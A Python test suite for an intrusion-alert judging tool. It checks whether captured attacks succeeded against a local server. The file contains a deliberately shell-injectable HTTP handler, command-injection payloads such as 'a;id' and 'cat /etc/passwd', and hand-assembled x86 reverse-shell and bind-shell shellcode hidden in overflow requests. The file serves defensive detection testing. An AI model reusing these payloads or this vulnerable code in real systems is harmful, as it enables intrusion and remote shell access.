"""Attacks on a real server, recorded and judged; and the captures of known outcome, where present."""
import collections
import ctypes
import datetime
import functools
import html
import http.server
import json
import lzma
import os
import pathlib
import signal
import socket
import struct
import subprocess
import threading
import time
import urllib.parse

from tap import HINOMI, main, run

SHARED = pathlib.Path(os.environ.get("HINOMI_TEST_DATA", pathlib.Path(__file__).parents[2]
                                     / "../shared/data"))


class Page(http.server.BaseHTTPRequestHandler):
    """/open hands its parameter to a shell, /closed quotes it, /echo only says it."""
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        url = urllib.parse.urlsplit(self.path)
        host = urllib.parse.parse_qs(url.query).get("host", [""])[0]
        if url.path == "/open":
            done = subprocess.run("echo checking " + host, shell=True, capture_output=True)
            body = done.stdout.decode("utf-8", "replace")
        elif url.path == "/echo":
            body = "you asked for " + html.escape(host, quote=False)
        else:
            body = "no such host" if set(host) & set(";|&$`") else "checking " + host
        data = f"<html><body><pre>{body}</pre></body></html>".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_):
        pass


class Recording:
    """Real conversations, written down as the packets that carried them."""

    def __init__(self, port):
        self.port, self.packets, self.client = port, [], 20000

    def put(self, client, from_client, sequence, flags, data=b""):
        ends = [(b"\x0a\0\0\1", client), (b"\x0a\0\0\2", 80)]
        self.send(*(ends if from_client else reversed(ends)), sequence, flags, data)

    def send(self, source, to, sequence, flags, data=b"", after=0):
        tcp = struct.pack(">HHIIBBHHH", source[1], to[1], sequence, 0, 0x50, flags, 1024, 0, 0)
        ip = struct.pack(">BBHHHBBH", 0x45, 0, 40 + len(data), 1, 0x4000, 64, 6, 0)
        frame = b"\2\0\0\0\0\1\2\0\0\0\0\2\x08\0" + ip + source[0] + to[0] + tcp + data
        self.packets.append((time.time() + after, frame))

    def talk(self, *targets):
        """The requests on one connection, one after the other."""
        self.client += 1
        sequence = {True: 1, False: 1}
        self.put(self.client, True, 0, 0x02)
        self.put(self.client, False, 0, 0x12)
        with socket.create_connection(("127.0.0.1", self.port), 10) as line:
            for target in targets:
                request = f"GET {target} HTTP/1.1\r\nHost: lab.test\r\n\r\n".encode()
                line.sendall(request)
                self.put(self.client, True, sequence[True], 0x18, request)
                sequence[True] += len(request)
                answer = b""
                while not answer.endswith(b"</html>"):
                    answer += line.recv(65536)
                self.put(self.client, False, sequence[False], 0x18, answer)
                sequence[False] += len(answer)
        self.put(self.client, True, sequence[True], 0x11)
        self.put(self.client, False, sequence[False], 0x11)

    def write(self, path):
        with open(path, "wb") as file:
            file.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
            for when, frame in self.packets:
                file.write(struct.pack("<IIII", int(when), int(when % 1 * 1e6), len(frame),
                                       len(frame)) + frame)


def judged(path, *arguments):
    done = run("alerts", "judge", "--pcap", path, "--json", *arguments)
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in done.stdout.splitlines()]


@functools.cache
def attacked():
    """A server asked harmless and harmful things, three harmful ones a page."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    recording = Recording(server.server_port)
    try:
        for page in ("open", "closed", "echo"):
            recording.talk(f"/{page}?host=example.test", f"/{page}?host=other.test")
        for page in ("open", "closed", "echo"):
            recording.talk(f"/{page}?host=a;id", f"/{page}?host=a%3Becho%20$((4321*1234))",
                           f"/{page}?host=a%7Ccat%20/etc/passwd")
    finally:
        server.shutdown()
        server.server_close()
    return recording


def test_a_real_server_attacked(folder):
    attacked().write(folder / "lab.pcap")
    rows = judged(folder / "lab.pcap")
    assert len(rows) == 15, len(rows)
    for row in rows:
        page, index = row["url_original"][1:].split("?")[0], row["request_index"]
        attack = "test" not in row["url_original"]
        verdict = row["verdict"]
        if not attack:
            assert verdict == "BENIGN" and index in (0, 1), row
        elif page == "open":
            assert verdict == "SUCCESS" and row["class"] == "command_injection", row
            assert row["proof"]["packet"] > 0 and row["proof"]["found"], row
        else:
            assert verdict in ("FAILED", "UNKNOWN"), row
    only = judged(folder / "lab.pcap", "--attacks")
    assert [row for row in rows if row["verdict"] != "BENIGN"] == only
    people = run("alerts", "judge", folder / "lab.pcap")
    assert people.returncode == 0 and people.stdout.count(b"SUCCESS") == 3, people.stdout
    assert b"3 attacks succeeded" in people.stderr, people.stderr


def push(text):
    """x86: the text with its NUL on the stack."""
    text += b"\0" * (4 - len(text) % 4)
    return b"".join(b"\x68" + text[at:at + 4] for at in range(len(text) - 4, -1, -4))


SOCKET = bytes.fromhex("31db5343536a0289e16a6658cd8096")
SHELL = push(b"/bin/sh") + bytes.fromhex("89e331c050535489e1" "31d2b00bcd80")


def calls_back(address, port):
    return (SOCKET + b"\x68" + socket.inet_aton(address) + b"\x66\x68" + struct.pack(">H", port) +
            bytes.fromhex("666a0289e16a10515689e16a035b6a6658cd80") + SHELL)


def listens(port):
    return (SOCKET + bytes.fromhex("31d2526668") + struct.pack(">H", port) +
            bytes.fromhex("666a0289e16a10515689e16a025b6a6658cd80"
                          "6a015689e16a045b6a6658cd80" "52525689e16a055b6a6658cd80") + SHELL)


def test_machine_code_in_traffic(folder):
    """Four overflows, in a protocol of its own and in a header; two of the victims obey."""
    filling = b"A" * 200 + b"\xbf\xee\xff\xbf" * 3 + b"\x90" * 40
    web = b"GET / HTTP/1.0\r\nHost: h\r\nReferer: "
    attacks = [(b"USER ", calls_back("10.0.0.1", 4444), b"\r\n", True),
               (b"USER ", calls_back("10.0.0.1", 4445), b"\r\n", False),
               (web, listens(4446), b"\r\n\r\n", True), (web, listens(4447), b"\r\n\r\n", False)]
    recording = Recording(0)
    for i, (before, code, behind, obeyed) in enumerate(attacks):
        client, victim = b"\x0a\0\0\1", bytes([10, 0, 0, 10 + i])
        ends = (client, 30000 + i), (victim, 21 if before.startswith(b"USER") else 80)
        recording.send(*ends, 0, 0x02, after=i)
        recording.send(*reversed(ends), 0, 0x12, after=i)
        recording.send(*ends, 1, 0x18, before + filling + code + behind, after=i)
        port = 4444 + i
        back = ((victim, 1025), (client, port)) if port < 4446 else ((client, 1025), (victim, port))
        if obeyed or port == 4447:  # the attacker tries the door that did not open
            recording.send(*back, 0, 0x02, after=i + 0.5)
        if obeyed:
            recording.send(*reversed(back), 0, 0x12, after=i + 0.6)
    recording.write(folder / "code.pcap")
    rows = judged(folder / "code.pcap", "--attacks")
    assert [row["class"] for row in rows] == ["shellcode"] * 4, rows
    found = {row["destination_ip"]: (row["verdict"], (row["proof"] or {}).get("found", ""))
             for row in rows}
    assert found == {"10.0.0.10": ("SUCCESS", "10.0.0.10 → 10.0.0.1:4444"),
                     "10.0.0.11": ("UNKNOWN", ""),
                     "10.0.0.12": ("SUCCESS", "10.0.0.1 → 10.0.0.12:4446 accepted"),
                     "10.0.0.13": ("UNKNOWN", "")}, found
    assert "connects 10.0.0.1:4445" in rows[1]["command"], rows[1]


def eve(row, shift=0.0, turned=False, name="rule"):
    """What an appliance would have said of a request, `shift` seconds beside it."""
    seconds = datetime.datetime.fromisoformat(row["time"].replace("Z", "+00:00"))
    ends = [("src", row["source_ip"], row["source_port"]),
            ("dest", row["destination_ip"], row["destination_port"])]
    alert = {"timestamp": (seconds + datetime.timedelta(seconds=shift)).isoformat(),
             "event_type": "alert", "proto": "TCP",
             "alert": {"gid": 1, "signature_id": 7, "rev": 1, "signature": name, "severity": 1}}
    for (way, *_), (_, ip, port) in zip(ends, reversed(ends) if turned else ends):
        alert |= {f"{way}_ip": ip, f"{way}_port": port}
    return json.dumps(alert) + "\n"


def stored(data, *arguments):
    done = run("alerts", *arguments, "--data", data, "--json")
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in done.stdout.splitlines()]


def verdicts_of(data):
    """What the store says of each alert, by group."""
    return {group["rule_name"]: [alert.get("verdict") for alert in
                                 stored(data, "show", group["group"], "--limit", 100)[1:]]
            for group in stored(data, "list")}


def test_alerts_and_traffic_meet(folder):
    """By both ends, either way round, and by time; each alert gets its request's verdict."""
    attacked().write(folder / "lab.pcap")
    rows = judged(folder / "lab.pcap")
    opened = [row for row in rows if row["verdict"] == "SUCCESS"]
    harmless = next(row for row in rows if row["verdict"] == "BENIGN")
    log, data = folder / "eve.json", folder / "data"
    log.write_text("".join([
        *(eve(row, name="attack") for row in opened for _ in range(2)),
        eve(opened[0], turned=True, name="turned"), eve(harmless, name="harmless"),
        eve(opened[0], shift=600, name="elsewhen"),
        eve(opened[0] | {"source_port": 9}, name="elsewhere")]))
    met = judged(folder / "lab.pcap", "--eve", log)
    told = {}
    for row in met:
        for alert in row.get("alerts", []):
            told.setdefault(alert["rule_name"], []).append(row["verdict"])
    assert told == {"attack": ["SUCCESS"] * 6, "turned": ["SUCCESS"], "harmless": ["BENIGN"],
                    "elsewhen": ["UNKNOWN"], "elsewhere": ["UNKNOWN"]}, told

    def bare(lines):
        return [{key: row[key] for key in row if key != "alerts"} for row in lines]

    alone = [row for row in met if row.get("reason") == "no traffic was seen for it"]
    assert bare(row for row in met if row not in alone) == rows and len(alone) == 2
    done = run("alerts", "gather", log, "--data", data)
    assert done.returncode == 0, done.stderr
    done = run("alerts", "judge", "--pcap", folder / "lab.pcap", "--data", data)
    assert done.returncode == 0 and b"8 gathered alerts judged" in done.stderr, done.stderr
    groups = {group["rule_name"]: group["count"] for group in stored(data, "list")}
    assert groups == {"attack": 6, "turned": 1, "harmless": 1, "elsewhen": 1, "elsewhere": 1}, groups
    assert verdicts_of(data) == {"attack": ["success"] * 6, "turned": ["success"],
                                 "harmless": ["benign"], "elsewhen": [None],
                                 "elsewhere": [None]}, verdicts_of(data)


def process(seconds, number, executable, line):
    return {"@timestamp": moment(seconds), "host": {"name": "web01"},
            "event": {"category": "process", "action": "start", "type": "start"},
            "process": {"pid": number, "entity_id": f"e{number}", "executable": executable, "command_line": line,
                        "parent": {"pid": 1, "entity_id": "e1", "executable": "/bin/sh"}}}


def moment(seconds):
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(seconds)) + f".{int(seconds % 1 * 1000):03}Z"


def test_the_victims_own_sensor_is_a_witness(folder):
    """What ran is a success though nobody saw the answer; what was only said, done daily or done elsewhen is not."""
    begin, data = 1714572000, folder / "data"
    events = [process(begin - 86400 * day - 600 * at, 1000 * day + at, "/usr/bin/date", "date")
              for day in (3, 2, 1) for at in range(20, 0, -1)]
    events += [{"@timestamp": moment(begin - 9), "host": {"name": "web01"}, "event": {"category": "network", "action": "connect"},
                "process": {"pid": 5, "entity_id": "e5", "executable": "/usr/sbin/nginx"},
                "source": {"ip": "10.0.0.2", "port": 4000}, "destination": {"ip": "10.0.0.9", "port": 53},
                "network": {"transport": "udp", "direction": "egress"}},
               process(begin + 0.2, 900, "/usr/bin/touch", "touch '/tmp/was here'"),
               process(begin + 20.2, 901, "/usr/bin/lookup", "lookup a;touch /tmp/never"),
               process(begin + 40.2, 902, "/usr/bin/date", "date"),
               process(begin + 90, 903, "/usr/bin/touch", "touch /tmp/later")]
    (folder / "events.ndjson").write_text("".join(json.dumps(event) + "\n" for event in events))
    assert run("ingest", folder / "events.ndjson", "--data", data).returncode == 0
    asked = {"was": "touch%20'/tmp/was%20here'", "never": "touch%20/tmp/never", "daily": "date", "later": "touch%20/tmp/later"}
    (folder / "eve.json").write_text("".join(json.dumps({
        "timestamp": moment(begin + 20 * number), "event_type": "alert", "src_ip": "10.0.0.66", "src_port": 4000 + number,
        "dest_ip": "10.0.0.2", "dest_port": 80, "proto": "TCP", "alert": {"signature_id": 1, "signature": name, "severity": 1},
        "http": {"hostname": "h", "http_method": "GET", "protocol": "HTTP/1.1", "url": "/p?h=a%3B" + command}}) + "\n"
        for number, (name, command) in enumerate(asked.items())))
    done = run("alerts", "judge", "--eve", folder / "eve.json", "--data", data, "--json", check=True)
    rows = {row["alerts"][0]["rule_name"]: row for row in map(json.loads, done.stdout.splitlines())}
    assert {name: row["verdict"] for name, row in rows.items()} == {
        "was": "SUCCESS", "never": "UNKNOWN", "daily": "UNKNOWN", "later": "UNKNOWN"}, rows
    assert rows["was"]["proof"]["trace"] == "process", rows["was"]
    assert rows["was"]["proof"]["found"] == "web01: touch '/tmp/was here'", rows["was"]
    without = run("alerts", "judge", "--eve", folder / "eve.json", "--json", check=True)
    assert b"SUCCESS" not in without.stdout


def test_a_broken_capture_is_said(folder):
    (folder / "cut.pcap").write_bytes(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
                                      + b"\1\0\0\0\0\0\0\0\xff\0\0\0\xff\0\0\0cut")
    done = run("alerts", "judge", "--pcap", folder / "cut.pcap", "--json")
    assert done.returncode == 1 and b"cut.pcap" in done.stderr, done.stderr
    assert run("alerts", "judge", "--pcap", folder / "none.pcap").returncode == 1
    assert run("alerts", "judge").returncode == 2


def test_the_laboratory(folder):
    lab = SHARED / "alerts/lab"
    if not (lab / "lab_dev.pcap.xz").exists():
        return f"no {lab}"
    (folder / "lab.pcap").write_bytes(lzma.open(lab / "lab_dev.pcap.xz").read())
    truth = {row["client_port"]: row["verdict"]
             for row in map(json.loads, lzma.open(lab / "lab_dev.labels.jsonl.xz"))}
    counts = collections.Counter((truth[row["source_port"]], row["verdict"])
                                 for row in judged(folder / "lab.pcap")
                                 if truth.get(row["source_port"], "EXCLUDE") != "EXCLUDE")

    def share(what, said):
        return counts[what, said] / sum(n for (true, _), n in counts.items() if true == what)

    right = counts["SUCCESS", "SUCCESS"]
    called = sum(n for (_, said), n in counts.items() if said == "SUCCESS")
    assert right / called >= 0.99 and share("SUCCESS", "SUCCESS") >= 0.90, counts
    assert counts["SUCCESS", "FAILED"] == 0 and counts["BENIGN", "SUCCESS"] == 0, counts
    assert share("FAILED", "FAILED") >= 0.85, counts
    assert share("SUCCESS_INVISIBLE", "UNKNOWN") >= 0.95, counts


def pair_make():
    """Two ends of a wire in a network of our own; None without root."""
    names = f"hin{os.getpid()}a", f"hin{os.getpid()}b"
    if ctypes.CDLL(None, use_errno=True).unshare(0x40000000):
        return None
    commands = [["link", "add", names[0], "type", "veth", "peer", "name", names[1]],
                *(["link", "set", name, "up", "arp", "off", "mtu", "60000"] for name in names)]
    try:
        done = [subprocess.run(["ip", *command], capture_output=True) for command in commands]
    except FileNotFoundError:
        return None
    return names if all(one.returncode == 0 for one in done) else None


def frames_send(name, frames):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((name, 0))
        for _, frame in frames:
            wire.send(frame)


def lines_read(live, count):
    return [json.loads(live.stdout.readline()) for _ in range(count)]


def verdict_await(data, name, verdict):
    deadline = time.monotonic() + 60
    while verdicts_of(data)[name] != [verdict]:
        assert time.monotonic() < deadline, verdicts_of(data)
        time.sleep(0.1)


def test_a_wire_judged_as_it_comes(folder):
    """The same verdicts as of the file, while packets come from outside and from the machine."""
    recording, data = attacked(), folder / "data"
    names = pair_make()
    if not names:
        return "virtual interfaces need root and ip(8)"
    recording.write(folder / "lab.pcap")
    rows = judged(folder / "lab.pcap")
    (folder / "old.json").write_text(eve(rows[0] | {"time": "2020-01-01T00:00:00Z"}, name="old"))
    assert run("alerts", "gather", folder / "old.json", "--data", data).returncode == 0
    live = subprocess.Popen([HINOMI, "alerts", "judge", "-i", names[1], "--wait", "1s", "--ring",
                             "8M", "--json", "--data", data], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    assert "listening on" in live.stderr.readline()
    from_outside = [packet for packet in recording.packets if 20004 > port_of(packet[1])]
    own = [packet for packet in recording.packets if 20004 <= port_of(packet[1])]
    frames_send(names[0], from_outside)
    harmless = lines_read(live, 6)
    frames_send(names[1], own)
    attacks = lines_read(live, 9)

    def said(lines):
        return [[row[key] for key in ("source_port", "request_index", "class", "verdict")]
                for row in lines]

    assert said(harmless + attacks) == said(rows), said(harmless + attacks)
    for name, row in (("late", harmless[0]), ("proved", attacks[0])):
        log = folder / f"{name}.json"
        log.write_text(eve(row, name=name))
        assert run("alerts", "gather", log, "--data", data).returncode == 0
    verdict_await(data, "late", "benign")
    verdict_await(data, "proved", "success")
    live.send_signal(signal.SIGTERM)
    rest, summary = live.communicate(timeout=60)
    assert live.returncode == 0 and not rest, (live.returncode, rest, summary)
    assert "2 gathered alerts judged" in summary and " 0 dropped by the kernel" in summary, summary
    assert "15 requests in 6 connections: 3 attacks succeeded" in summary, summary
    return None


def port_of(frame):
    """The client's port."""
    return max(struct.unpack(">HH", frame[34:38]))


main([test_a_real_server_attacked, test_machine_code_in_traffic,
      test_the_victims_own_sensor_is_a_witness, test_a_broken_capture_is_said,
      test_alerts_and_traffic_meet, test_the_laboratory, test_a_wire_judged_as_it_comes])
